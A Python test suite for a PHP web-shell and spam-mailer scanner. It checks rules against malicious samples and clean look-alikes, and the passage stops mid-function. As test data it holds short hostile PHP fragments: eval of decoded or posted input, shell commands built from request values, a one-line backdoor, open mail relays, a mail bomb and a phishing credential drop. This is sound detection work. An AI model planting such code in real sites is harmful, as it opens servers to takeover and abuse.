"""Every scanner rule is proven on samples: one that fires it, one look-alike that does not.

The list of rules is read from the rule files, so a new rule without samples fails here.
"""

from __future__ import annotations

import re
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from scanner_helpers import SAMPLES, analyze_bytes, analyze_file, read_toml, rule_ids

from spamtrace.errors import ConfigError
from spamtrace.scanner.analyze import VULNERABILITY_CAP, analyze
from spamtrace.scanner.report import ScanVerdict
from spamtrace.scanner.rules import YaraWords, load_rules, load_yara, parse_rules, yara_source

RULE_IDS = [r.id for r in load_rules()]
MAPPING = read_toml((SAMPLES / "rule-samples.toml").read_text(encoding="utf-8"))["rules"]


def test_rules_load_and_ids_are_namespaced_kebab_case() -> None:
    rules = load_rules()
    assert len(rules) >= 40
    for rule in rules:
        ns, _, name = rule.id.partition(".")
        assert ns in ("php", "shell", "mailer"), rule.id
        assert name and name == name.lower() and "_" not in name
        assert rule.description and rule.weight > 0


def test_every_yara_rule_is_declared_and_every_declared_yara_rule_exists() -> None:
    declared = {r.id for r in load_rules() if r.kind == "yara"}
    source = yara_source()
    for rid in declared:
        assert f'id = "{rid}"' in source
    assert source.count('id = "') == len(declared)
    YaraWords()  # compiles


@pytest.mark.parametrize("rule_id", RULE_IDS)
def test_rule_has_samples(rule_id: str) -> None:
    entry = MAPPING.get(rule_id)
    assert entry is not None, f"{rule_id}: add samples to samples/rule-samples.toml"
    assert entry["fires"], f"{rule_id}: needs a sample that fires it"
    assert entry["clean"], f"{rule_id}: needs a clean look-alike that does not fire it"


@pytest.mark.parametrize("rule_id", RULE_IDS)
def test_rule_fires_on_its_sample(rule_id: str) -> None:
    for rel in MAPPING[rule_id]["fires"]:
        assert rel.startswith(("malicious/", "suspicious/"))
        result = analyze_file(SAMPLES / rel)
        assert rule_id in rule_ids(result), f"{rule_id} did not fire on {rel}"


@pytest.mark.parametrize("rule_id", RULE_IDS)
def test_rule_quiet_on_clean_lookalike(rule_id: str) -> None:
    for rel in MAPPING[rule_id]["clean"]:
        assert rel.startswith("clean/")
        result = analyze_file(SAMPLES / rel)
        assert rule_id not in rule_ids(result), f"{rule_id} fired on clean {rel}"


def test_mapping_names_only_known_rules() -> None:
    assert set(MAPPING) <= set(RULE_IDS)


@pytest.mark.parametrize("path", sorted((SAMPLES / "malicious").iterdir()), ids=lambda p: p.name)
def test_malicious_samples_are_malicious(path: Path) -> None:
    assert analyze_file(path).verdict is ScanVerdict.MALICIOUS


@pytest.mark.parametrize("path", sorted((SAMPLES / "suspicious").iterdir()), ids=lambda p: p.name)
def test_suspicious_samples_are_suspicious(path: Path) -> None:
    """Code that is careless rather than hostile (a contact form open to header injection)."""
    assert analyze_file(path).verdict is ScanVerdict.SUSPICIOUS


@pytest.mark.parametrize("path", sorted((SAMPLES / "clean").iterdir()), ids=lambda p: p.name)
def test_clean_lookalikes_are_clean(path: Path) -> None:
    result = analyze_file(path)
    assert result.verdict is ScanVerdict.CLEAN, [f.rule for f in result.findings]


def test_findings_carry_line_and_escaped_excerpt() -> None:
    result = analyze_file(SAMPLES / "malicious" / "dropper-base64.php")
    eval_hit = next(f for f in result.findings if f.rule == "php.eval-decoded")
    assert eval_hit.line == 3
    assert "eval(base64_decode(" in eval_hit.excerpt
    payload = next(f for f in result.findings if f.rule == "php.decoded-payload")
    assert "harmless test payload" in payload.excerpt


def test_an_excerpt_shows_the_file_as_written_not_as_normalized() -> None:
    """The evidence line is what the admin will find in the file: its case and its quotes
    (the rules see lower-cased code with single-quoted strings)."""
    result = analyze_bytes(b'<?php $f = "sys" . "tem";\n$f($_GET["c"]);\n')
    hit = next(f for f in result.findings if f.line == 2)
    assert '$_GET["c"]' in hit.excerpt, hit.excerpt


@pytest.mark.parametrize(
    "text, message",
    [
        ('[[rule]]\nid = "Bad_Id"\nkind = "code"\n', "bad rule id"),
        ('[[rule]]\nid = "php.x"\nkind = "nope"\n', "unknown kind"),
        (
            '[[rule]]\nid = "php.x"\nkind = "code"\nweight = 1\ncategory = "c"\n'
            'description = "d"\npattern = "{NOPE}"\n',
            "unknown macro",
        ),
        (
            '[[rule]]\nid = "php.x"\nkind = "code"\nweight = 1\ncategory = "c"\n'
            'description = "d"\npattern = "("\n',
            "bad pattern",
        ),
        (
            '[[rule]]\nid = "php.x"\nkind = "code"\nweight = 1\ncategory = "c"\n',
            "missing description",
        ),
        (
            '[[rule]]\nid = "php.x"\nkind = "code"\nweight = 1\ncategory = "c"\n'
            'description = "d"\npattern = "x"\noverlaps = ["php.nope"]\n',
            "overlaps unknown rule",
        ),
        (
            '[[rule]]\nid = "php.x"\nkind = "code"\nweight = 1\ncategory = "c"\n'
            'description = "d"\npattern = "x"\nwritten_from = "corpus-a"\n',
            "written_from must be a list",
        ),
        (
            '[[rule]]\nid = "php.x"\nkind = "code"\nweight = 1\ncategory = "c"\n'
            'description = "d"\npattern = "x"\nwritten_from = ["../etc"]\n',
            "bad collection name",
        ),
        (
            '[[rule]]\nid = "php.x"\nkind = "code"\nweight = 1\ncategory = "c"\n'
            'description = "d"\npattern = "x"\nwritten_from = ["a/b/c"]\n',
            "bad collection name",
        ),
        (
            '[[rule]]\nid = "php.x"\nkind = "code"\nweight = 1\ncategory = "c"\n'
            'description = "d"\npattern = "x"\nwritten_from = ["a", "a"]\n',
            "names a collection twice",
        ),
        (
            '[[rule]]\nid = "php.x"\nkind = "code"\nweight = 1\ncategory = "c"\n'
            'description = "d"\npattern = "x"\ngate_call = true\n',
            "gate_call must be a list of function names",
        ),
        (
            '[[rule]]\nid = "php.x"\nkind = "code"\nweight = 1\ncategory = "c"\n'
            'description = "d"\npattern = "x"\ngate_call = ["eval("]\n',
            "gate_call must be a list of function names",
        ),
    ],
)
def test_bad_rule_files_are_config_errors(text: str, message: str) -> None:
    with pytest.raises(ConfigError, match=message):
        parse_rules(text)


def test_written_from_is_read_and_not_a_rule_parameter() -> None:
    base = '[[rule]]\nid = "php.x"\nkind = "code"\nweight = 1\ncategory = "c"\n'
    base += 'description = "d"\npattern = "x"\n'
    (rule,) = parse_rules(base + 'written_from = ["corpus-a", "b.2", "corpus-c/train"]\n')
    assert rule.written_from == ("corpus-a", "b.2", "corpus-c/train")
    assert "written_from" not in rule.params
    assert parse_rules(base)[0].written_from == ()


def test_every_builtin_rule_says_what_it_was_written_from() -> None:
    """The held-out figures of bench/scan_bench.py rest on it: a rule without the key would
    silently count as written from no collection."""
    from importlib import resources

    text = resources.files("spamtrace").joinpath("data/scanner/rules.toml").read_text("utf-8")
    entries = read_toml(text)["rule"]
    missing = [e["id"] for e in entries if "written_from" not in e]
    assert not missing, f"rules without written_from: {missing}"
    by_id = {r.id: r for r in load_rules()}
    assert "for-just-we-webshell" in by_id["php.folded-name-called"].written_from
    assert "for-just-we-webshell" not in by_id["php.eval-request"].written_from


def test_overlapping_rules_count_once_the_heaviest() -> None:
    """mail-request-recipient, mail-request-args and mail-tainted-args all see request data in
    mail() arguments: of those that fire, only the heaviest counts (a tie: the first by id)."""
    contact = (
        b"<?php\n$to = 'info@example.com';\n"
        b"$body = 'Name: ' . $_POST['name'] . ' Message: ' . $_POST['message'];\n"
        b"mail($to, 'Website enquiry', $body, 'From: ' . $_POST['email']);\necho 'Thank you';\n"
    )
    found = rule_ids(analyze_bytes(contact))
    mail_rules = {
        "mailer.mail-request-recipient", "mailer.mail-request-args", "mailer.mail-tainted-args"
    }  # fmt: skip
    assert found & mail_rules == {"mailer.mail-request-args"}  # tie with tainted-args: by id
    relay = contact.replace(b"mail($to,", b"mail($_POST['to'],")
    assert rule_ids(analyze_bytes(relay)) & mail_rules == {"mailer.mail-request-recipient"}
    rules = {r.id: r for r in load_rules()}
    assert rules["mailer.mail-tainted-args"].overlaps == (
        "mailer.header-forgery", "mailer.mail-request-args", "mailer.mail-request-recipient"
    )  # fmt: skip  (declared on the others, it binds both ways)


def test_small_file_bonus_counts_intent_not_plain_calls_or_signed_in_pages() -> None:
    """php.small-single-purpose (+5 to a small file that already scores 5) counts findings of
    intent only: an upload kept under the visitor's file name is a plain call a site's upload
    page makes, and a finding that runs only behind the site's own sign-in (a session key the
    file never sets) belongs to a page of the site. A key the file sets itself after its own
    password check guards nothing of the site's: the bonus stays."""
    upload = (
        b"<?php\nif (in_array(pathinfo($_FILES['p']['name'], PATHINFO_EXTENSION), ['jpg'])) {\n"
        b"    move_uploaded_file($_FILES['p']['tmp_name'], 'img/' . $_FILES['p']['name']);\n}\n"
    )
    found = analyze_bytes(upload)
    assert "shell.upload-anywhere" in rule_ids(found)
    assert "php.small-single-purpose" not in rule_ids(found)
    assert found.verdict is ScanVerdict.SUSPICIOUS
    relay = b"mail($_POST['to'], $_POST['subject'], $_POST['body']);\necho 'sent';\n"
    gate = b"if (!isset($_SESSION['admin'])) {\n    header('Location: login.php');\n    exit;\n}\n"
    signed_in = analyze_bytes(b"<?php\nsession_start();\n" + gate + relay)
    assert rule_ids(signed_in) == {"mailer.mail-request-recipient"}
    assert signed_in.verdict is ScanVerdict.SUSPICIOUS
    own_key = b"if ($_POST['pw'] === 'x9') {\n    $_SESSION['admin'] = 1;\n}\n"
    planted = analyze_bytes(b"<?php\nsession_start();\n" + own_key + gate + relay)
    assert "php.small-single-purpose" in rule_ids(planted)
    assert planted.verdict is ScanVerdict.MALICIOUS
    bare = analyze_bytes(b"<?php\n" + relay)
    assert "php.small-single-purpose" in rule_ids(bare)
    # the visitor picks the address but the script writes the words: a tell-a-friend note
    note = (
        b"<?php\n$n = strip_tags($_POST['name']);\n"
        b"mail($_POST['to'], 'A page for you', \"$n sends you https://example.org/\");\n"
    )
    told = analyze_bytes(note)
    assert rule_ids(told) == {"mailer.mail-request-recipient"}
    assert told.verdict is ScanVerdict.SUSPICIOUS
    # ... and when the visitor writes the subject (here through a variable and a function),
    # or the file hides its errors, it is an open relay again
    worded = note.replace(b"'A page for you'", b"$s").replace(
        b"<?php\n", b"<?php\n$s = trim($_POST['subject']);\n"
    )
    assert "php.small-single-purpose" in rule_ids(analyze_bytes(worded))
    quiet = note.replace(b"<?php\n", b"<?php\nerror_reporting(0);\n")
    assert "php.small-single-purpose" in rule_ids(analyze_bytes(quiet))


def test_an_editor_of_one_site_file_is_no_dropper_unless_php_or_the_server_runs_it() -> None:
    """A page that shows one file of the site in a text box and saves the box's post over it
    (a robots.txt or stylesheet editor) writes request input into a file, but no dropper:
    the file's name is fixed and the page shows what it edits. The same save into a PHP
    name, under a name the request gives, of a field no box shows, or of a file other than
    the one shown stays php.dropper-write-decoded (and small: malicious). An editor of the
    server's .htaccess keeps the finding without the small-file bonus (suspicious)."""
    page = (
        b"<?php\n$f = __DIR__ . '/robots.txt';\n"
        b"if (isset($_POST['robots'])) { file_put_contents($f, $_POST['robots']); }\n?>\n"
        b"<form method=\"post\"><textarea name=\"robots\">"
        b"<?php echo htmlspecialchars(file_get_contents($f)); ?></textarea></form>\n"
    )
    assert analyze_bytes(page).verdict is ScanVerdict.CLEAN
    for bad in (
        page.replace(b"/robots.txt", b"/robots.php"),
        page.replace(b"/robots.txt", b"/robots.shtml"),
        page.replace(b"__DIR__ . '/robots.txt'", b"__DIR__ . '/' . $_GET['n']"),
        page.replace(b'name=\"robots\"', b'name=\"notes\"'),
        page.replace(b"file_get_contents($f)", b"file_get_contents('help.txt')"),
    ):
        found = analyze_bytes(bad)
        assert "php.dropper-write-decoded" in rule_ids(found)
        assert found.verdict is ScanVerdict.MALICIOUS
    settings = analyze_bytes(page.replace(b"/robots.txt", b"/.htaccess"))
    assert rule_ids(settings) == {"php.dropper-write-decoded"}
    assert settings.verdict is ScanVerdict.SUSPICIOUS


def test_small_bonus_conditions_are_known() -> None:
    """A rule's ``small_bonus_if`` names a condition the scanner defines."""
    from spamtrace.scanner.context import BONUS_CONDITIONS

    named = {r.params["small_bonus_if"] for r in load_rules() if "small_bonus_if" in r.params}
    assert named and named <= set(BONUS_CONDITIONS)


def test_stop_at_counts_overlapping_rules_once() -> None:
    """analyze(stop_at=N) stops only when the score *as reported* reaches N: two rules that
    say the same thing must not add up to a stop that the final score does not reach."""
    from spamtrace.scanner.analyze import analyze
    from spamtrace.scanner.rules import load_yara

    contact = (
        b"<?php\n$to = 'info@example.com';\n"
        b"$body = 'Name: ' . $_POST['name'] . ' Message: ' . $_POST['message'];\n"
        b"mail($to, 'Website enquiry', $body, 'From: ' . $_POST['email']);\necho 'Thank you';\n"
    )
    rules, yara = load_rules(), load_yara()
    full = analyze(contact, "contact.php", rules, yara=yara)
    weights = {r.id: r.weight for r in rules}
    raw = full.score + weights["mailer.mail-tainted-args"]  # what a double count would reach
    for stop_at in range(full.score + 1, raw + 1):
        again = analyze(contact, "contact.php", rules, yara=yara, stop_at=stop_at)
        assert again.complete and again == full
    first = max(full.findings, key=lambda f: f.weight)
    early = analyze(contact, "contact.php", rules, yara=yara, stop_at=first.weight)
    assert not early.complete and early.score >= first.weight
    # what it found is in the full report, or says the same as a rule there (overlaps)
    by_id = {r.id: r for r in rules}
    same = {o for f in full.findings for o in (f.rule, *by_id[f.rule].overlaps)}
    assert {f.rule for f in early.findings} <= same


def test_assert_of_a_condition_is_not_code_evaluation() -> None:
    """assert() evaluates only a string (PHP < 8): asserting a condition on a variable the
    file never assigns is not a backdoor; asserting the variable itself still is."""
    cond = b"<?php\nfunction f() { assert(is_string($m[1])); assert($m !== null); return 1; }\n"
    assert not rule_ids(analyze_bytes(cond)) & {"php.eval-unassigned-var", "php.eval-request"}
    bare = b"<?php\nfunction f() { @assert($m); return 1; }\n"
    assert "php.eval-unassigned-var" in rule_ids(analyze_bytes(bare))
    req = b"<?php\nassert($_POST['c']);\n"
    assert "php.eval-request" in rule_ids(analyze_bytes(req))
    checked = b"<?php\nassert(isset($_POST['c']));\n"
    assert "php.eval-request" not in rule_ids(analyze_bytes(checked))


def test_assert_chained_by_and_still_evaluates_its_argument() -> None:
    """The comparison that makes an assert() a condition check is one inside its own
    parentheses: ``extract($_REQUEST) && @assert(stripslashes($x)) && exit;`` (a one-line
    backdoor found on a hacked Drupal site) evaluates the posted $x, the ``&&`` after the call
    belongs to the statement. Conditions, nested calls in them included, stay conditions."""
    chained = b"<?php extract($_REQUEST) && @assert(stripslashes($shall)) && exit;\n"
    assert "php.eval-unassigned-var" in rule_ids(analyze_bytes(chained))
    ored = b"<?php\nif (isset($_GET['go'])) { @assert(trim(urldecode($cmd))) || die(); }\n"
    assert "php.eval-unassigned-var" in rule_ids(analyze_bytes(ored))
    for cond in (
        b"<?php\nfunction f($m) { assert(strlen(trim($m)) > 0) || die('empty'); return 1; }\n",
        b"<?php\nfunction f() { assert(count(array_filter($n)) === 2) && print('ok'); }\n",
        b"<?php\nfunction f() { assert(max(abs($a), abs(min($b, $c))) <= 9) or exit(1); }\n",
        b"<?php\nfunction f() { assert($r instanceof Row) && $r->save(); return 1; }\n",
    ):
        assert not rule_ids(analyze_bytes(cond)) & {"php.eval-unassigned-var", "php.eval-request"}


def test_eval_of_a_parameter_only_ever_given_sums_is_not_hidden_code() -> None:
    """eval() of a parameter of a function the file calls only with literal sums
    (safe_eval("1."), a test page of a calculator) runs a number written in the file: no
    php.eval-variable. Any other value for it keeps the finding: request input, a decoded
    text, a literal naming a function or a variable, the name given as a callback, a method
    or a name of a variable, or no call at all."""
    head = (
        b"<?php\nfunction calc($code) {\n    $code = strtolower($code);\n"
        b"    return eval($code);\n}\n"
    )
    sums = head + b'echo @calc("1.") . calc(\'(2 + 3) * 4 / 1.5\');\n'
    assert "php.eval-variable" not in rule_ids(analyze_bytes(sums))
    for other in (
        b"calc($_POST['e']);\n",
        b"calc(base64_decode($_COOKIE['x']));\n",
        b"calc('system($_GET[1]);');\n",
        b"calc('phpinfo()');\n",
        b"array_map('calc', $_POST);\n",
        b"$f = 'calc'; $f($_GET['e']);\n",
        b"$o->calc($x);\n",
        b"calc($x);\n",
    ):
        found = rule_ids(analyze_bytes(sums + other))
        assert "php.eval-variable" in found, other
    assert "php.eval-variable" in rule_ids(analyze_bytes(head))


def test_a_macro_may_use_the_macros_above_it() -> None:
    rule = (
        "[[rule]]\nid = \"php.x\"\nkind = \"code\"\nweight = 1\ncategory = \"c\"\n"
        "description = \"d\"\npattern = \"{B}\"\n"
    )
    rules = parse_rules('[macros]\nA = "ab"\nB = "{A}c"\n' + rule)
    assert rules[0].regex is not None and rules[0].regex.pattern == b"abc"
    with pytest.raises(ConfigError, match="unknown macro"):
        parse_rules('[macros]\nB = "{A}c"\nA = "ab"\n' + rule)


def test_literal_code_text_is_not_a_decoded_payload() -> None:
    """Code written as plain text (a settings-file generator gluing lines together) is scanned
    as a layer, but nothing had to be decoded: php.decoded-payload is for encoded payloads."""
    generator = (
        b"<?php\nfunction default_settings() {\n  return '<?php' . \"\\n\"\n"
        b"    . '$wgSitename = \"My wiki\";' . \"\\n\"\n"
        b"    . '$wgServer = \"https://wiki.example.org\";' . \"\\n\"\n"
        b"    . '$wgEnableUploads = false;' . \"\\n\"\n"
        b"    . '$wgDefaultSkin = \"vector\";' . \"\\n\";\n}\n"
    )
    assert "php.decoded-payload" not in rule_ids(analyze_bytes(generator))
    packed = (
        b"<?php\n$x = 'PD9waHAgZXZhbCgkX1BPU1RbImMiXSk7ID8+IA==';\n"
        b"eval('?>' . base64_decode($x));\n"
    )
    assert "php.decoded-payload" in rule_ids(analyze_bytes(packed))


def test_random_names_must_be_a_share_of_the_file_names() -> None:
    odd = [b"$O0O0O0", b"$OO00OO", b"$lIlIlI", b"$IlIlII", b"$_0x1f2e", b"$_0xa9b3"]
    plain = [b"$item%d" % i for i in range(60)]
    small = b"<?php\n" + b"".join(v + b" = 1;\n" for v in odd) + b"$total = 0;\n"
    big = small + b"".join(v + b" = 2;\n" for v in plain)
    assert "php.random-identifiers" in rule_ids(analyze_bytes(small))
    assert "php.random-identifiers" not in rule_ids(analyze_bytes(big))


def test_every_rule_is_in_the_docs_table_with_its_weight() -> None:
    doc = (Path(__file__).resolve().parents[3] / "docs" / "scan.md").read_text(encoding="utf-8")
    for rule in load_rules():
        assert f"| `{rule.id}` | {rule.weight} | {rule.kind} |" in doc, rule.id


def test_a_decoder_wrapped_in_a_function_still_decodes_names() -> None:
    wrapped = (
        b"<?php\nfunction d($s) { return base64_decode($s); }\n"
        b"$o = d('c2hlbGxfZXhlYw==');\necho $o($_GET['q']);\n"
    )
    assert "php.dangerous-name-built" in rule_ids(analyze_bytes(wrapped))
    harmless = wrapped.replace(b"c2hlbGxfZXhlYw==", b"aGVsbG8gd29ybGQ=")  # "hello world"
    assert "php.dangerous-name-built" not in rule_ids(analyze_bytes(harmless))


def test_brand_sender_needs_a_header_name_of_its_own() -> None:
    """"From:" must start a literal or follow a line break ("\\r\\n" as written in a
    double-quoted string); a word that merely ends in "from"/"r" is not a header."""
    header = (
        b"<?php\nmail($to, 'Hi', $body, "
        b"\"X-Priority: 1\\r\\nFrom: PayPal <service@paypal.com>\");\n"
    )
    assert "mailer.brand-sender" in rule_ids(analyze_bytes(header))
    prose = header.replace(b"\\r\\nFrom:", b" Patternfrom:")  # "n" before "from"
    assert "mailer.brand-sender" not in rule_ids(analyze_bytes(prose))


def test_mb_ereg_replace_e_option_only_in_the_options_argument() -> None:
    fired = "php.preg-replace-eval"
    assert fired in rule_ids(analyze_bytes(b"<?php mb_eregi_replace('a', $r, $s, 'ie');"))
    # "e" in the pattern, the replacement or the subject is not the option
    quiet = b"<?php mb_ereg_replace('e', 'e', 'e'); mb_ereg_replace('x', 'y', $s, 'msr');"
    assert fired not in rule_ids(analyze_bytes(quiet))


def test_the_raw_request_body_is_request_input() -> None:
    # 'php://input' is a literal, so the lexed code held only a placeholder where it stood
    body = b"<?php $s = file_get_contents('php://input'); eval($s);"
    assert "php.eval-tainted" in rule_ids(analyze_bytes(body))
    memory = b"<?php $s = file_get_contents('php://memory'); eval($s);"
    assert "php.eval-tainted" not in rule_ids(analyze_bytes(memory))


def test_unpacked_request_values_are_request_input() -> None:
    from spamtrace.scanner.taint import _unpacking_before

    code = b"list($to, , $s) = explode('|', $d); [$a, $b] = $d; $o->t[$i] = $d; $u[$k] = $d;"
    at = [i for i in range(len(code)) if code.startswith(b"$d", i)]
    assert [_unpacking_before(code, i) for i in at] == [
        ([b"to", b"s"], b"explode('|', $d)"), ([b"a", b"b"], b"$d"), None, None
    ]  # fmt: skip
    sent = b"<?php $d = $_POST['d']; list($to, $s) = explode('|', $d); mail($to, $s, 'x');"
    assert "mailer.mail-request-recipient" in rule_ids(analyze_bytes(sent))
    dated = b"<?php list($y, $m) = explode('-', $_GET['date']); echo checkdate($m, 1, $y);"
    assert rule_ids(analyze_bytes(dated)) == set()


def test_taint_pass_stays_linear_on_many_sources_and_brackets() -> None:
    # request values used outside assignments, among many "[": each source looks back for
    # the statement it is in, never forward through the rest of the file
    import time

    line = b"echo f($_GET['a'], $x[1], $y[2]); g($v, $t[3], $u[4]); $q[] = $_POST['b'];\n"
    data = b"<?php\n$v = $_COOKIE['v'];\n" + line * 12000 + b"mail($v, 's', 'b');\n"
    start = time.process_time()  # the CPU it took: a busy machine's wall clock is not
    analyze_bytes(data)
    assert time.process_time() - start < 3  # ~0.5 s; a look forward to the end took 9 s


def test_getenv_headers_and_walked_request_arrays_are_request_input() -> None:
    header = b"<?php $x = getenv('HTTP_X_AUTH'); system(base64_decode($x));"
    assert "shell.exec-tainted" in rule_ids(analyze_bytes(header))
    proxy = b"<?php $ip = getenv('HTTP_X_FORWARDED_FOR'); system('logger ' . escapeshellarg($ip));"
    assert "shell.exec-tainted" not in rule_ids(analyze_bytes(proxy))
    walked = b"<?php array_walk($_POST, function ($v, $k) { $k($v); });"
    assert "php.variable-function-tainted" in rule_ids(analyze_bytes(walked))
    trimmed = b"<?php array_walk($_POST, function (&$v, $k) { $v = trim($v); }); echo 1;"
    assert rule_ids(analyze_bytes(trimmed)) == set()


def test_escapeshellarg_quotes_its_whole_argument_where_read_copied_or_run() -> None:
    """What escapeshellarg() quotes is one argument of the script's command however many
    calls it nests (the read, a copy and the command call saw one level of them, the copy
    any: the same code was a command where it was read and an argument where copied)."""
    quoted = b"escapeshellarg(trim(basename($d)))"
    for code in (
        b"<?php $c = 'ls ' . " + quoted.replace(b"$d", b"$_GET['d']") + b"; system($c);",
        b"<?php $d = $_GET['d']; $c = 'ls ' . " + quoted + b"; system($c);",
        b"<?php $d = $_GET['d']; system('ls ' . " + quoted + b");",
    ):
        assert "shell.exec-tainted" not in rule_ids(analyze_bytes(code)), code
        bare = code.replace(b"escapeshellarg(", b"strval(")
        # unquoted, the value is request data among the arguments of ls: a hole of the
        # script's own command, still found
        assert {"shell.exec-tainted", "shell.exec-request-argument"} & rule_ids(
            analyze_bytes(bare)
        ), bare


def test_shell_quoted_spans_are_the_outer_closed_calls() -> None:
    from spamtrace.scanner.taint import shell_quoted_removed

    text = b"'a ' . escapeshellarg(f(g($x), escapeshellarg($y))) . $z . escapeshellcmd($w)"
    assert shell_quoted_removed(text) == b"'a ' .  . $z . escapeshellcmd($w)"
    assert shell_quoted_removed(text, cmd=True) == b"'a ' .  . $z . "
    assert shell_quoted_removed(b"escapeshellarg($x . $y") == b"escapeshellarg($x . $y"


def test_a_mail_bomb_is_one_posted_address_mailed_in_a_counted_loop() -> None:
    bomb = b"<?php $to = $_POST['to']; for ($i = 0; $i < 20; $i++) { mail($to, 's', 'b'); }"
    assert "mailer.mail-bomb" in rule_ids(analyze_bytes(bomb))
    # a retry that stops once mail() took it, a list walked by the counter, an address
    # rebuilt each turn: no bomb
    retry = bomb.replace(b"mail($to, 's', 'b');", b"if (mail($to, 's', 'b')) { break; }")
    walked = bomb.replace(b"$_POST['to']", b"explode(',', $_POST['to'])").replace(
        b"mail($to,", b"mail($to[$i],"
    )
    rebuilt = bomb.replace(b"{ mail($to,", b"{ $to = $list[$i]; mail($to,")
    for code in (retry, walked, rebuilt):
        assert "mailer.mail-bomb" not in rule_ids(analyze_bytes(code)), code


def test_a_global_set_from_the_request_through_globals_is_request_input() -> None:
    """$GLOBALS['to'] is the global $to: set from request input, what is read back from it
    later (in a function, past the first mentions of $GLOBALS) is request input too."""
    from spamtrace.scanner.context import Ctx
    from spamtrace.scanner.lexer import lex
    from spamtrace.scanner.taint import taint

    filler = b"".join(b"$GLOBALS['k%d'] = %d;\n" % (i, i) for i in range(25))
    src = (
        b"<?php $GLOBALS['Rcpt'] = trim($_POST['rcpt']);\n" + filler
        + b"function go() { $to = $GLOBALS['rcpt']; $n = $GLOBALS['k1']; }\n"
    )
    req, _dec = taint(Ctx(src, "x.php", lex(src), 0, lambda: None, None))
    assert {b"rcpt", b"to"} <= req
    assert b"n" not in req
    fixed = src.replace(b"trim($_POST['rcpt'])", b"'admin@example.org'")
    req, _dec = taint(Ctx(fixed, "x.php", lex(fixed), 0, lambda: None, None))
    assert b"to" not in req


def test_the_taint_pass_masks_the_values_the_server_sets_and_no_other() -> None:
    from spamtrace.scanner.context import Ctx
    from spamtrace.scanner.lexer import lex
    from spamtrace.scanner.taint import server_set_masked

    src = (
        b"<?php $a = getenv('DOCUMENT_ROOT') . $_SERVER[ 'Home' ] . $_ENV['PATH'];"
        b" $b = getenv('HTTP_X_CMD') . $_SERVER['REQUEST_URI'] . $_SERVER['REMOTE_ADDR'];"
    )
    lx = lex(src)
    ctx = Ctx(src, "x.php", lx, 0, lambda: None, None)
    masked = server_set_masked(ctx)
    assert len(masked) == len(ctx.code)
    server = masked[masked.find(b"$a =") : masked.find(b"$b =")]
    assert server.find(b"getenv") < 0 and server.find(b"$_") < 0  # all three masked
    at = ctx.code.find(b"$b =")  # a header, the URI, the client's address: kept
    assert masked[at:] == ctx.code[at:]


def test_every_function_of_the_keep_list_passes_a_value_through_alike() -> None:
    """{KEEP} of rules.toml is the one list of wrappers a value comes out of as itself: a
    rule that looks through trim() looks through ltrim() and strtolower() too (the fetch
    rule's list, the mail recipient's and php.decode-request's each had a few of them)."""
    from spamtrace.scanner.rules import builtin_macro

    # the names of the alternation, whole: "trim" is not found inside "ltrim"
    keep = set(re.findall(r"\w+", builtin_macro("KEEP")))
    assert "trim" in keep and "rim" not in keep
    for sample, rule in (
        (b"<?php echo file_get_contents(WRAP($_GET['u']));", "php.fetch-request-url"),
        (b"<?php mail(WRAP($_POST['to']), 'hi', $_POST['m']);", "mailer.mail-request-recipient"),
        (b"<?php $m = base64_decode(WRAP($_POST['m'])); echo $m;", "php.decode-request"),
    ):
        for name in ("trim", "ltrim", "strtolower", "strval"):
            assert name in keep
            code = sample.replace(b"WRAP", name.encode())
            assert rule in rule_ids(analyze_bytes(code)), code
        checked = sample.replace(b"WRAP", b"intval")  # a number: no longer the value sent
        assert rule not in rule_ids(analyze_bytes(checked)), checked


def test_a_contact_form_to_the_office_is_not_a_credentials_drop() -> None:
    """Form fields mailed to a fixed address are a phishing drop only with a password or card
    field among them, and only in the text that goes there."""
    office = analyze_file(SAMPLES / "clean" / "contact-form-office.php")
    assert "mailer.credentials-dropped" not in rule_ids(office)
    kit = (SAMPLES / "clean" / "contact-form-office.php").read_bytes()
    kit = kit.replace(b"$_POST['message']", b"$_POST['passwd']")
    assert "mailer.credentials-dropped" in rule_ids(analyze_bytes(kit))


def test_antibot_gate_needs_ip_patterns_not_version_numbers() -> None:
    gate = (SAMPLES / "malicious" / "antibot-ip-list.php").read_bytes()
    assert "php.antibot-gate" in rule_ids(analyze_bytes(gate))
    versions = gate.replace(b"^", b"").replace(b".*.*", b".1").replace(b".*", b".2")
    assert "php.antibot-gate" not in rule_ids(analyze_bytes(versions))


# calls of eval-like names as the rules see them: spaces, "@", a non-ASCII byte or an operator
# before, or an eval that is not called (a method, part of a longer name, a string)
_CALL_PROBES = (
    b"<?php @eval ($_POST['c']);",
    b"<?php\xe9eval(base64_decode('ZWNobyAxOw=='));",
    b"<?php $x=1;eval\n(\"?>$_GET[x]\");",
    b"<?php assert($_REQUEST['a']); create_function('', $_COOKIE['f']);",
    b"<?php function run($c) { return eval($c); } run($_POST['c']);",
    b"<?php eval($code); eval(file_get_contents($u));",
    b"<?php $this->assertSame(1, $x); $o->eval($_POST['c']); Foo::eval($_GET['x']);",
    b"<?php evaluate($_POST['c']); $eval($_POST['c']); echo 'eval($_POST[1])';",
    b"<?php echo shell_exec('ls ' . $_GET['d']); system\t($_POST['c']);",
    b"<?php\xe9passthru(base64_decode('bHM=')); $o->exec($_GET['q']); curl_exec($ch);",
    b"<?php function run($c) { return shell_exec($c); } echo run($_REQUEST['cmd']);",
    b"<?php $p = popen($_COOKIE['c'], 'r'); proc_open($_POST['x'], $d, $pipes);",
)


def test_gate_call_drops_only_files_where_its_rules_cannot_fire() -> None:
    """``gate_call`` skips a rule where none of its gate words is called: on every sample
    and probe, each such rule finds what it finds without that gate (the gate only saves
    work)."""
    from dataclasses import replace

    from spamtrace.scanner.analyze import analyze

    rules = load_rules()
    gated = [r.id for r in rules if r.gate_call]
    assert {"php.eval-request", "php.eval-tainted", "shell.exec-tainted"} <= set(gated)
    ungated = tuple(replace(r, gate_call=()) for r in rules)
    yara = YaraWords()
    texts = [p.read_bytes() for p in sorted(SAMPLES.rglob("*")) if p.is_file()]
    fired = set()
    for data in (*_CALL_PROBES, *texts):
        with_gate = analyze(data, "x.php", rules, yara=yara)
        without = analyze(data, "x.php", ungated, yara=yara)
        assert with_gate.findings == without.findings, data[:80]
        fired |= {f.rule for f in without.findings} & set(gated)
    assert len(fired) >= 8  # the probes and samples exercise the gated rules


def test_callback_sites_without_reflection_words_are_the_same_matches() -> None:
    """Where a file holds neither "reflectionfunction" nor "fromcallable", the callback
    pattern without those two alternatives finds the same sites (and is not tried at every
    "new" of the file)."""
    from spamtrace.scanner.context import bounded_finditer
    from spamtrace.scanner.features import execution
